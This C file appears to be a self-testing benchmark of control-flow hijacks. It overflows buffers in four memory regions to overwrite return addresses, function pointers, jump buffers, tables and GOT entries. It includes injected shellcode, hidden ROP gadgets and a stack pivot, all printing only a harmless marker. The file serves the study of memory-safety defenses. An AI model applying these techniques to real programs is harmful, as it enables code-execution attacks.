/* A matrix of control-flow hijacks: each overflow of a buffer (where it lies) that overwrites a code pointer (which one),
 * at once or through a pointer, with an address of the attacker's choice (what it leads to). Each runs in a child; a line
 * says "PLACE TARGET TECHNIQUE PAYLOAD ran" if the attacker's text came out, else "stopped".
 *
 * The attacker knows all addresses and the program's only protection is what it runs on: no stack protector, no
 * relocation read-only, no mangled jump buffers, a writable and executable stack. At every hijack rdi holds the buffer, as
 * in a handler of requests. Gadgets that stand for those of large programs are spelled out in assembly below. */
#define _GNU_SOURCE
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#define MARK "hijacked"
enum { BUFFER = 256, WORDS = BUFFER / 8 };
enum place { STACK, HEAP, BSS, DATA, PLACES };
enum target { RETURN, FRAME, POINTER, JUMP_BUFFER, TABLE, GOT, TARGETS };
enum technique { DIRECT, INDIRECT, TECHNIQUES };
enum payload { INJECTED, LIBC, FUNCTION, CHAIN, CALL_CHAIN, COLD_CHAIN, MIDDLE, INSIDE, PAYLOADS };
static const char *const places[] = {"stack", "heap", "bss", "data"};
static const char *const targets[] = {"return-address", "frame-pointer", "function-pointer", "jump-buffer", "table", "got"};
static const char *const techniques[] = {"direct", "indirect"};
static const char *const payloads[] = {"injected-code", "libc-function", "unused-function", "gadget-chain",
                                       "call-preceded-chain", "unused-call-preceded-chain", "middle-of-function",
                                       "inside-instruction"};

/* privileged: a check, then what it guards; guarded is the instruction behind the check. hidden: a jump inside a constant.
 * pivot and pop_rdi: inside constants, too. after_*: behind calls, in functions that main has called and (cold_*) not.
 * save and restore: a jump buffer without mangling. */
__asm__(".text\n"
        "privileged: test %edi,%edi; jz 1f\n"
        "guarded: and $-16,%rsp; lea mark_text(%rip),%rsi; mov $1,%edi; mov $9,%edx; mov $1,%eax; syscall;"
        " mov $60,%eax; syscall; 1: ret\n"
        "ud2; unused: jmp guarded\n"
        "ud2; .byte 0x48,0xb8; hidden: .byte 0xe9; .long guarded-.-4; .byte 0x90,0x90,0x90\n"
        "ud2; .byte 0x48,0xb8; pivot: .byte 0x48,0x89,0xfc,0xc3,0x90,0x90,0x90,0x90\n"
        "ud2; .byte 0x48,0xb8; pop_rdi: .byte 0x5f; just_ret: .byte 0xc3,0x90,0x90,0x90,0x90,0x90,0x90\n"
        "nothing: ret\n"
        "warm_pop: sub $8,%rsp; call nothing; after_pop: pop %rdi; ret\n"
        "warm_say: sub $8,%rsp; call nothing; after_say: call puts@plt; add $8,%rsp; ret\n"
        "ud2; call nothing; cold_pop: pop %rdi; ret\n"
        "ud2; call nothing; cold_say: call puts@plt; add $8,%rsp; ret\n"
        "save: mov %rbp,(%rdi); mov (%rsp),%rax; mov %rax,8(%rdi); lea 8(%rsp),%rax; mov %rax,16(%rdi);"
        " mov %rbx,24(%rdi); mov %r12,32(%rdi); mov %r13,40(%rdi); xor %eax,%eax; ret\n"
        "restore: mov 24(%rsi),%rbx; mov 32(%rsi),%r12; mov 40(%rsi),%r13; mov (%rsi),%rbp; mov 16(%rsi),%rsp; mov $1,%eax;"
        " jmp *8(%rsi)\n"
        "got_caller: sub $8,%rsp; call getppid@plt; add $8,%rsp; ret\n"
        "got_stub: lea getppid@plt(%rip),%rax; ret\n"
        "puts_address: mov puts@GOTPCREL(%rip),%rax; ret\n"
        ".data; mark_text: .ascii \"hijacked\\n\"\n"
        ".set far, offsets-0x40000000\n"
        "offsets: .quad guarded-far, unused-far, hidden-far, pivot-far, pop_rdi-far, after_pop-far, after_say-far,"
        " cold_pop-far, cold_say-far\n"
        ".text\n");
/* Where the attacker goes, as distances from nowhere: no instruction, no word of data and no jump table of distances from
 * a place that code knows is one of the addresses. */
enum { GUARDED, UNUSED, HIDDEN, PIVOT, POP_RDI, AFTER_POP, AFTER_SAY, COLD_POP, COLD_SAY };
extern volatile const int64_t offsets[];
static uintptr_t at_offset(int n) { return (uintptr_t)offsets - 0x40000000 + offsets[n]; }
uintptr_t puts_address(void);
int warm_pop(void), warm_say(const char *), save(uintptr_t *), privileged(int);
void restore(void *buffer, uintptr_t *saved), got_caller(void *buffer);
unsigned char *got_stub(void);

typedef void function(void *);
struct site {
    uintptr_t buffer[WORDS];
    uintptr_t *pointer; /* the program writes through it later */
    function *call;
    function **table;
    uintptr_t saved[6];
};
static struct site in_bss, other;
static struct site in_data = {{1}};
static void friendly(void *unused) {}
static function *const friendly_table[] = {friendly};
static const char said[] = MARK;

struct attack {
    enum place place;
    enum target target;
    enum technique technique;
    enum payload payload;
};

static void reset(struct site *s) {
    static uintptr_t scratch;
    s->pointer = &scratch;
    s->call = friendly;
    s->table = (function **)friendly_table;
}

static uintptr_t *got_slot(void) {
    unsigned char *p = got_stub(); /* jmp *disp(%rip) */
    int32_t disp;
    while (p[0] != 0xff || p[1] != 0x25)
        p++;
    memcpy(&disp, p + 2, 4);
    return (uintptr_t *)(p + 6 + disp);
}

/* What a chain leaves on the stack: the address and argument of a pop, then what prints. The last word ends it. */
static int chain(uintptr_t *out, enum payload kind) {
    out[0] = at_offset(kind == CHAIN ? POP_RDI : kind == CALL_CHAIN ? AFTER_POP : COLD_POP);
    out[1] = (uintptr_t)said;
    out[2] = kind == CHAIN ? puts_address() : at_offset(kind == CALL_CHAIN ? AFTER_SAY : COLD_SAY);
    out[3] = 0;
    return 4;
}

static const unsigned char injected[] = {
    0xeb, 0x20,                                     /* jmp over the text that follows 2 bytes on */
    'h', 'i', 'j', 'a', 'c', 'k', 'e', 'd', '\n', 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
    0xb8, 1, 0, 0, 0, 0xbf, 1, 0, 0, 0,             /* mov $1,%eax; mov $1,%edi */
    0x48, 0x8d, 0x35, 0xcf, 0xff, 0xff, 0xff,       /* lea text(%rip),%rsi */
    0xba, 9, 0, 0, 0, 0x0f, 0x05,                   /* mov $9,%edx; syscall */
    0xb8, 60, 0, 0, 0, 0x0f, 0x05,                  /* exit */
};

/* Fills the buffer at `at` with what the payload needs there; returns the address that control is to go to. */
static uintptr_t prepare(const struct attack *a, uintptr_t *words, uintptr_t *at) {
    switch (a->payload) {
    case INJECTED:
        memcpy(words, injected, sizeof injected);
        return (uintptr_t)at;
    case LIBC:
        strcpy((char *)words, MARK);
        return puts_address();
    case FUNCTION:
        return at_offset(UNUSED);
    case MIDDLE:
        return at_offset(GUARDED);
    case INSIDE:
        return at_offset(HIDDEN);
    default:
        chain(words, a->payload);
        return at_offset(PIVOT);
    }
}

/* The buffer is overflowed with `n` words. */
__attribute__((noinline)) static void overflow(uintptr_t *buffer, const uintptr_t *words, int n) {
    for (int i = 0; i < n; i++)
        buffer[i] = words[i];
}

/* What the target must hold so that its use leads to `goal`. */
static uintptr_t value_for(const struct attack *a, uintptr_t goal, uintptr_t *words, uintptr_t *at) {
    if (a->target == TABLE) {
        words[WORDS - 1] = goal;
        return (uintptr_t)(at + WORDS - 1);
    }
    if (a->target == FRAME) {
        /* A frame of the caller inside the buffer: the saved rbp, the return address, and the chain that it starts. */
        uintptr_t *frame = words + WORDS - 8;
        frame[0] = (uintptr_t)(at + WORDS - 8);
        frame[1] = goal;
        if (goal == at_offset(PIVOT))
            chain(frame + 1, a->payload);
        return (uintptr_t)(at + WORDS - 8);
    }
    return goal;
}

__attribute__((noinline)) static void vulnerable(const struct attack *a) {
    struct site on_stack, *s = &on_stack;
    uintptr_t words[WORDS * 4];
    uintptr_t *frame = __builtin_frame_address(0);
    if (a->place == HEAP)
        s = malloc(sizeof *s);
    else if (a->place == BSS)
        s = &in_bss;
    else if (a->place == DATA)
        s = &in_data;
    memset(words, 'A', sizeof words);
    reset(s);
    reset(&other);
    struct site *victim = a->technique == DIRECT ? s : &other;
    uintptr_t *slots[] = {frame + 1, frame, (uintptr_t *)&victim->call, victim->saved + 1, (uintptr_t *)&victim->table,
                          got_slot()};
    uintptr_t *slot = slots[a->target];
    if (a->target == JUMP_BUFFER && save(victim->saved)) /* comes back here by `restore` */
        return;
    uintptr_t value = value_for(a, prepare(a, words, s->buffer), words, s->buffer);
    if (a->technique == INDIRECT) {
        words[WORDS] = (uintptr_t)slot;
        overflow(s->buffer, words, WORDS + 1);
        *s->pointer = value;
    } else {
        int n = slot - s->buffer;
        for (int i = WORDS; i < n; i++)
            words[i] = s->buffer[i]; /* what lies between stays as it is */
        words[n++] = value;
        if (a->target == RETURN && value == at_offset(PIVOT))
            n += chain(words + n - 1, a->payload) - 1;
        overflow(s->buffer, words, n);
    }
    if (a->target == POINTER)
        victim->call(s->buffer);
    else if (a->target == TABLE)
        victim->table[0](s->buffer);
    else if (a->target == JUMP_BUFFER)
        restore(s->buffer, victim->saved);
    else if (a->target == GOT)
        got_caller(s->buffer);
    __asm__ volatile("" ::"D"(s->buffer) : "memory");
}

/* Has a frame that ends with `leave`. */
__attribute__((noinline)) static void caller(const struct attack *a) {
    volatile char *room = __builtin_alloca(64 + a->place);
    room[0] = 1;
    vulnerable(a);
}

static int is_possible(const struct attack *a) {
    if (a->technique == INDIRECT)
        return 1;
    if (a->target == RETURN || a->target == FRAME)
        return a->place == STACK;
    return a->target != GOT;
}

static int runs(const struct attack *a) {
    int ends[2];
    char text[4096];
    ssize_t n, all = 0;
    pipe(ends);
    pid_t child = fork();
    if (child == 0) {
        dup2(ends[1], 1);
        close(ends[0]);
        close(ends[1]);
        alarm(5);
        caller(a);
        _exit(0);
    }
    close(ends[1]);
    while (all < (ssize_t)sizeof text && (n = read(ends[0], text + all, sizeof text - all)) > 0)
        all += n;
    close(ends[0]);
    waitpid(child, 0, 0);
    return memmem(text, all, MARK, strlen(MARK)) != 0;
}

int main(void) {
    setvbuf(stdout, 0, _IONBF, 0);
    warm_pop();
    warm_say("warm");
    privileged(0);
    got_caller(0);
    struct attack a;
    for (a.place = 0; a.place < PLACES; a.place++)
        for (a.target = 0; a.target < TARGETS; a.target++)
            for (a.technique = 0; a.technique < TECHNIQUES; a.technique++)
                for (a.payload = 0; a.payload < PAYLOADS; a.payload++)
                    if (is_possible(&a))
                        printf("%s %s %s %s %s\n", places[a.place], targets[a.target], techniques[a.technique],
                               payloads[a.payload], runs(&a) ? "ran" : "stopped");
    return 0;
}
